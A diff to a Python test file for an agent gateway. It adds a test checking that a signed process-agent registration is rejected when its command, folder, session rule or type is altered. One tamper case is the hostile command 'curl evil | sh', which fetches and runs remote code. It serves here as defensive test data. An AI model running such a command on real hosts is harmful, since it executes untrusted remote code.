@@ -17,7 +17,8 @@ from temporalio.testing import WorkflowEnvironment
 
 from agentcomms.config import AgentConfig
 from agentcomms.framing import pane_text
-from agentcomms.models import Agent
+from agentcomms.models import Agent, Registration
+from agentcomms.trust import DeploymentKey
 from gateway.agents.processes import start_configured
 from tests.fakes.telegram import FakeTelegram
 from tests.support import acp_agent
@@ -295,3 +296,19 @@ async def test_an_interrupt_while_it_asks_closes_the_approval_and_cancels_the_tu
 
 async def not_open(stack: Stack, agent: str) -> bool:
     return await open_approvals(stack, agent) == []
+
+
+def test_what_a_process_agent_runs_is_in_its_registrations_tag() -> None:
+    # Anyone who reaches Temporal can signal a registration: the command it would run on the
+    # host, its folder and its session rule must all be the deployment's.
+    key = DeploymentKey(b"k" * 32)
+    made = Registration(type="process", target="acp: x", host="h", command=["x", "--acp"], cwd="/w")
+    signed = key.sign_registration("a", made)
+    assert key.registration_is_genuine("a", signed)
+    for change in (
+        {"command": ["sh", "-c", "curl evil | sh"]},
+        {"cwd": "/"},
+        {"new_session_if_lost": False},
+        {"type": "tmux"},
+    ):
+        assert not key.registration_is_genuine("a", signed.model_copy(update=change)), change
